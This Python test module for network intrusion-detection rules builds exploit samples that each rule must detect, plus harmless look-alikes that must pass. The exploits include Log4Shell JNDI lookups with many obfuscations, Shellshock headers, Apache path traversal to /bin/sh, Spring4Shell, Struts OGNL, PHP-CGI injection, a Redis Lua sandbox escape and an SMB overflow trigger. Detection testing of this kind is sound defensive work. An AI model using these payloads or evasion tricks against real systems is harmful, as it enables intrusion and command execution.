"""Exploits, their disguises, and near misses: what each starter rule must say of each of them."""

from __future__ import annotations

import struct
from collections.abc import Mapping

from tests.support.rule_flows import Connection, split

JNDI = b"${jndi:ldap://10.0.0.9:1389/a}"


def get(target: bytes = b"/", **headers: bytes) -> bytes:
    lines = [b"GET " + target + b" HTTP/1.1", b"Host: shop.test"]
    lines += [name.replace("_", "-").encode() + b": " + value for name, value in headers.items()]
    return b"\r\n".join(lines) + b"\r\n\r\n"


def post(
    body: bytes, content_type: bytes = b"application/x-www-form-urlencoded", target: bytes = b"/"
) -> bytes:
    return (
        b"POST " + target + b" HTTP/1.1\r\nHost: shop.test\r\nContent-Type: " + content_type
        + b"\r\nContent-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body
    )  # fmt: skip


def chunked(body: bytes, size: int) -> bytes:
    chunks = b"".join(f"{len(part):x}\r\n".encode() + part + b"\r\n" for part in split(body, size))
    return (
        b"POST / HTTP/1.1\r\nHost: shop.test\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n" + chunks + b"0\r\n\r\n"
    )


def multipart(name: bytes, value: bytes = b"x") -> bytes:
    body = (
        b'--edge\r\nContent-Disposition: form-data; name="' + name + b'"\r\n\r\n' + value
        + b"\r\n--edge--\r\n"
    )  # fmt: skip
    return post(body, b"multipart/form-data; boundary=edge")


def resp(*words: bytes) -> bytes:
    """A Redis command as clients send it (RESP array of bulk strings)."""
    return b"*%d\r\n" % len(words) + b"".join(b"$%d\r\n%s\r\n" % (len(w), w) for w in words)


def smb1(command: int, words: bytes, data: bytes = b"", answer: bool = False) -> bytes:
    header = b"\xffSMB" + struct.pack(
        "<BIBHHQHHHHH", command, 0, 0x98 if answer else 0x18, 0xC807, 0, 0, 0, 0x0800, 0xFEFF, 0x0800, 64
    )  # fmt: skip
    message = header + bytes([len(words) // 2]) + words + struct.pack("<H", len(data)) + data
    return struct.pack(">I", len(message)) + message


SMB_OPENING = (
    (
        smb1(0x72, b"", b"\x02NT LM 0.12\0"),
        smb1(0x72, struct.pack("<H", 0) + b"\0" * 32, answer=True),
    ),
)


def nt_transact(total: int) -> bytes:
    words = struct.pack("<BHIIIIIIIIBH", 1, 0, 30, total, 30, 0, 30, 75, 976, 104, 1, 0) + b"\0\0"
    return smb1(0xA0, words[: len(words) // 2 * 2], b"\0" * 64)


PROPERTY = b"class.module.classLoader.resources.context.parent.pipeline.first.pattern"
ESCAPE = (
    b'local f = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); '
    b'return f():popen("id"):read("*a")'
)

# sid -> name -> what is sent; the rule must fire on each.
EXPLOITS: Mapping[int, Mapping[str, bytes | tuple[bytes, ...]]] = {
    4850000: {
        "plain": get(b"/?q=" + JNDI),
        "encoded": get(b"/?q=%24%7Bjndi%3Aldap%3A%2F%2F10.0.0.9%2Fa%7D"),
        "encoded in the path": get(b"/%24%7bjndi:dns:%2f%2f10.0.0.9%7d/x"),
        "encoded twice": get(b"/?q=%2524%257Bjndi%253Aldap%253A%252F%252F10.0.0.9%252Fa%257D"),
        "nested": get(b"/?q=$%7b$%7blower:j%7dndi:ldap://10.0.0.9/a%7d"),
    },
    4850001: {
        "user agent": get(User_Agent=JNDI),
        "case": get(X_Api_Version=b"${JnDi:LDAP://10.0.0.9/a}"),
        "lower": get(User_Agent=b"${${lower:j}ndi:ldap://10.0.0.9/a}"),
        "every letter": get(Referer=b"${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://10.0.0.9/a}"),
        "unset variables": get(
            X_A=b"${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://10.0.0.9/a}"
        ),
        "nested twice": get(X_A=b"${${upper:${lower:j}}${lower:n}${lower:d}i:ldap://10.0.0.9/a}"),
        "some letters": get(X_A=b"${j${k8s:k5:-ND}i:ldap://10.0.0.9/a}"),
        "folded header": get(X_A=b"v\r\n ${jndi:ldap://10.0.0.9/a}"),
        "byte by byte": split(get(User_Agent=JNDI), 1),
        "two segments": split(get(User_Agent=JNDI), 45),
        "second of a pipeline": get() + get(User_Agent=JNDI),
        "on a post": post(b"a=1").replace(b"Host:", b"X-Forwarded-For: " + JNDI + b"\r\nHost:"),
    },
    4850002: {"cookie": get(Cookie=b"session=" + JNDI)},
    4850003: {
        "form": post(b"user=" + JNDI),
        "form encoded": post(b"user=%24%7Bjndi%3Aldap%3A%2F%2F10.0.0.9%2Fa%7D"),
        "json": post(b'{"user":"' + JNDI + b'"}', b"application/json"),
        "chunked": chunked(b"user=" + JNDI, 3),
        "multipart": multipart(b"user", JNDI),
        "late in a body": post(b"a=" + b"x" * 6000 + b"&user=" + JNDI),
    },
    4850004: {
        "braces": post(b'{"user":"\\u0024\\u007bjndi:ldap://10.0.0.9/a}"}', b"application/json"),
        "letters": post(b'{"u":"\\u0024{\\u006andi\\u003Aldap://x/a}"}', b"application/json"),
    },
    4850100: {
        "user agent": get(b"/cgi-bin/status", User_Agent=b"() { :;}; /bin/bash -c id"),
        "any header": get(b"/cgi-bin/status", X_Any=b"() { _; } >_[$($())] { id; }"),
        "no space": get(b"/cgi-bin/s", Referer=b"x").replace(b": x", b":() { x;};echo;id"),
        "last of many": get(
            b"/cgi-bin/s",
            Accept=b"*/*",
            Accept_Language=b"en",
            User_Agent=b"curl",
            X=b"() { a;}; id",
        ),
        "segments": split(get(b"/cgi-bin/status", User_Agent=b"() { :;}; id"), 7),
    },
    4850101: {"cookie": get(b"/cgi-bin/status", Cookie=b"() { :;}; id")},
    4850200: {
        "second dot": get(b"/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"),
        "both dots, case": get(b"/icons/%2E%2e/%2e%2E/etc/passwd"),
        "first dot": get(b"/icons/%2e./%2e./etc/passwd"),
        "to a shell": post(b"echo;id", target=b"/cgi-bin/.%2e/.%2e/.%2e/bin/sh"),
        "segments": split(get(b"/cgi-bin/.%2e/.%2e/etc/passwd"), 5),
        "pipeline": get() + get(b"/icons/.%2e/%2e%2e/etc/passwd"),
    },
    4850201: {
        "both digits": get(b"/cgi-bin/.%%32%65/.%%32%65/.%%32%65/bin/sh"),
        "both dots": get(b"/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh"),
        "one digit": get(b"/cgi-bin/.%%32e/.%%32e/bin/sh"),
    },
    4850202: {"other digit": get(b"/cgi-bin/.%2%65/.%2%65/bin/sh")},
    4850300: {
        "plain": get(b"/greet?" + PROPERTY + b"=x"),
        "second parameter, encoded": get(b"/greet?a=1&class%2Emodule%2EclassLoader%2Eurls=x"),
        "brackets": get(b"/greet?class[module][classLoader][urls]=x"),
        "case": get(b"/greet?Class.Module.ClassLoader.x=x"),
    },
    4850301: {
        "form": post(PROPERTY + b"=x"),
        "second parameter": post(b"name=a&" + PROPERTY + b"=x"),
        "encoded": post(b"a=1&%63lass%2emodule%2EclassLoader%2Eresources=x"),
        "brackets": post(b"class['module']['classLoader']=x"),
        "chunked": chunked(PROPERTY + b"=x", 4),
        "chunked in segments": split(chunked(PROPERTY + b"=x", 5), 9),
        "multipart": multipart(PROPERTY),
    },
    4850400: {
        "percent": get(
            Content_Type=b"%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"
        ),
        "dollar": get(Content_Type=b"${(#_='multipart/form-data').(#cmd='id')}"),
        "after a type": post(b"", b"multipart/form-data%{#context['x'].addHeader('a',1)}"),
    },
    4850500: {
        "include": post(
            b"<?php system('id');",
            target=b"/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
        ),
        "case, after a word": get(b"/php-cgi/php-cgi.exe?a+%adD+cgi.force_redirect%3d0"),
    },
    4850600: {
        "eval": resp(b"EVAL", ESCAPE, b"0"),
        "case": resp(b"eVaL", ESCAPE, b"0"),
        "inline": b"EVAL '" + ESCAPE.replace(b"'", b'"') + b"' 0\r\n",
        "script load": resp(b"SCRIPT", b"LOAD", ESCAPE),
        "after others": resp(b"PING") + resp(b"SET", b"a", b"1") + resp(b"EVAL", ESCAPE, b"0"),
        "segments": split(resp(b"EVAL", ESCAPE, b"0"), 11),
        "by index": resp(b"EVAL", b"return package['loadlib']('/tmp/x.so','luaopen_os')", b"0"),
    },
    4850601: {
        "spelled otherwise": resp(
            b"EVAL", b"return _G['pack'..'age']['load'..'lib'](p,'luaopen_os')", b"0"
        )
    },
    4850700: {"oversized": nt_transact(66512), "segments": split(nt_transact(0x10000), 20)},
}

# What looks alike and is harmless: no starter rule may fire.
NEAR_MISSES: Mapping[str, bytes | tuple[bytes, ...]] = {
    "jndi without a lookup": get(b"/docs?q=jndi:ldap", User_Agent=b"jndi:ldap://x"),
    "another lookup": get(User_Agent=b"${java:version}", X_A=b"${date:yyyy}"),
    "lookup without a colon": get(User_Agent=b"${jndi}"),
    "jndi in a path": get(b"/docs/$%7Bproduct%7D/jndi:howto"),
    "template variables": post(b"t=${j}n${d}i: ${user:-jane} ${name}"),
    "a shell default": post(b"script=echo ${JAVA_HOME:-/usr} ${JNDI_HOME:?unset}"),
    "json escapes": post(b'{"price":"\\u00245","b":"\\u007b"}', b"application/json"),
    "an article": post(b"text=Log4Shell+is+about+jndi%3Aldap+in+a+message"),
    "a function in a header": get(X_Script=b"function() { return 1; }", Cookie=b"cb=() { x }"),
    "a function in a body": post(b"() { :;}; id", b"text/plain"),
    "parentheses": get(User_Agent=b"Mozilla/5.0 () compatible", X_A=b"(){ }"),
    "one encoded dot": get(b"/a/%2e/b", Referer=b"/.%2e/"),
    "dots in a name": get(b"/v1.%2e2/a%2e%2eb/c.%2etxt/..%2ehidden/x"),
    "encoded dots in the query": get(b"/login?next=/.%2e/.%2e/home&v=%%32%65"),
    "plain dots": get(b"/a/../b/./c"),
    "file name with %2e": get(b"/files/report%2epdf"),
    "class and module": get(b"/greet?class=5&module=classLoader"),
    "class loader as a value": get(b"/search?q=class.module.classLoader"),
    "class loader in prose": post(b"text=the class.module.classLoader property", b"text/plain"),
    "another property": post(b"class.name=x&classLoader.module=y&subclass.module.classLoaders=z"),
    "multipart value": multipart(b"comment", b"about class.module.classLoader"),
    "boundary with braces": post(b"", b"multipart/form-data; boundary={a-b}%{x}"),
    "charset": post(b"", b"application/json; charset=utf-8"),
    "latin-1 in a query": get(b"/s?q=caf%ade&r=%ADd", Referer=b"/?%ADd+x"),
    "utf-8 in a query": get(b"/s?%C2%ADd=1"),
    "soft hyphen in the path": get(b"/a%ADd+b?x=1"),
    "redis script": resp(b"EVAL", b"return redis.call('GET', KEYS[1])", b"1", b"package"),
    "redis text": resp(b"SET", b"note", b"package.loadlib and luaopen_io explained"),
    "redis inline": b"SET EVAL luaopen_\r\nGET package.loadlib\r\n",
    "lua in a form": post(b"code=package.loadlib(x, 'luaopen_io')"),
    "small nt transact": nt_transact(0x1000),
    "largest allowed": nt_transact(0xFFFF),
}


def build_connections() -> list[Connection]:
    """Every sample over IPv4 and IPv6."""
    samples = [
        (f"{sid} {name}", sent) for sid, group in EXPLOITS.items() for name, sent in group.items()
    ]
    samples += [(f"near miss: {name}", sent) for name, sent in NEAR_MISSES.items()]
    made = []
    for name, sent in samples:
        segments = sent if isinstance(sent, tuple) else (sent,)
        whole = b"".join(segments)
        smb = b"\xffSMB" in whole
        redis = whole[:1] == b"*" or whole.startswith((b"EVAL", b"SET"))
        for ipv6 in (False, True):
            made.append(
                Connection(
                    name=f"{name} (IPv{6 if ipv6 else 4})",
                    requests=segments,
                    server_port=4450 if smb else 16379 if redis else 8080,
                    ipv6=ipv6,
                    opening=SMB_OPENING if smb else (),
                    **({"answer": b"+OK\r\n"} if redis else {"answer": b""} if smb else {}),
                )
            )
    return made
